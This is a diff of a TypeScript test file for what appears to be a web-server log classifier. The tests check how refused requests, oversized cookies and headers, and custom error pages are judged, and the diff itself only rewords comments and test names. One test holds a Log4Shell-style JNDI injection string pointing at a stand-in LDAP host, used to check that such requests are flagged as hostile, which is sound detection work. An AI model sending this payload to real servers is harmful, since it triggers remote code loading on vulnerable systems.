@@ -9,7 +9,7 @@ import { hitOf, type Line, tablesOf } from '../literal.ts';
 
 /** This server's plain page has 157 bytes. */
 const FIRM: Line = { request: 'SSH-2.0-Go', status: 400, body_bytes_sent: 157, http_user_agent: '-' };
-/** One custom page of 900 bytes stands for all 400 pages. */
+/** This server sends one custom page of 900 bytes for every 400. */
 const ONE_PAGE: readonly Line[] = [
   { ...FIRM, body_bytes_sent: 900 },
   { ...FIRM, body_bytes_sent: 900 },
@@ -34,7 +34,7 @@ test('the case for the size of the page about large headers says how the plain p
   expect(cookie(PLAIN, tablesOf([FIRM]))).toBeUndefined();
 });
 
-test('a HEAD request needs another refused request beside it', () => {
+test('a HEAD request needs another refused request near by', () => {
   expect(cookie(HEAD, tablesOf([FIRM]), [TOO_LARGE])).toMatchObject({
     case: 'head-beside-refused-requests',
     facts: { others_refused: 1 },
@@ -42,7 +42,7 @@ test('a HEAD request needs another refused request beside it', () => {
   expect(cookie(HEAD, tablesOf([FIRM]), [PLAIN])).toBeUndefined();
 });
 
-test('with one custom page for all, a browser needs another refused request beside it', () => {
+test('with one custom page for every 400, a browser needs another refused request near by', () => {
   const hit: Line = { status: 400, body_bytes_sent: 900 };
   expect(cookie(hit, tablesOf(ONE_PAGE), [hit])?.case).toBe('one-page-beside-refused-requests');
   expect(cookie(hit, tablesOf(ONE_PAGE))).toBeUndefined();
@@ -71,7 +71,7 @@ test('a 400 of an upstream is not a bad header', () => {
   expect(header({ ...PLAIN, extra: { upstream_status: '400' } }, tablesOf([FIRM]))).toBeUndefined();
 });
 
-test('attack text or a client that only probes makes a bad header hostile, but not with one custom page for all', () => {
+test('attack text or a client that only probes makes a bad header hostile, but not with one custom page for every 400', () => {
   const attack = 'GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1';
   const probe: Line = { status: 404, http_user_agent: '-' };
   expect(header({ ...PLAIN, request: attack }, tablesOf([FIRM]))?.verdict).toBe('hostile');
